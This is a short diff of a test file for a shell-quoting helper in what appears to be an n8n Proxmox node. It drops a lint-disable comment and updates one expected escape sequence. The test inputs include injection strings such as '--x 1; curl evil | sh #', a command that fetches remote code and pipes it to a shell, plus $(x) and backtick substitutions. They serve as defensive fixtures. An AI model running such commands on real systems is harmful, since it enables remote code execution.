@@ -1,4 +1,3 @@
-/* eslint-disable @n8n/community-nodes/no-restricted-globals -- a test, neither shipped nor scanned */
 import type { IDataObject, NodeApiError } from 'n8n-workflow';
 
 import { shellQuote } from '../nodes/ProxmoxVe/operations/shellQuote';
@@ -103,7 +102,7 @@ describe('a word for a shell', () => {
 		['--x 1; curl evil | sh #', "'--x 1; curl evil | sh #'"],
 		["it's $(x) `y`", "'it'\\''s $(x) `y`'"],
 		['two\nlines', "'two\nlines'"],
-		['tab\tesc\x1b[201~\'\\', "$'tab\\x09esc\\x1b[201~\\'\\\\'"],
+		['tab\tesc\x1b[201~\'\\', "$'tab\\u0009esc\\u001b[201~\\'\\\\'"],
 	])('%j is %s', (word, quoted) => expect(shellQuote(word)).toBe(quoted));
 
 	it('is each one of a preview, names of additional parameters too', async () => {
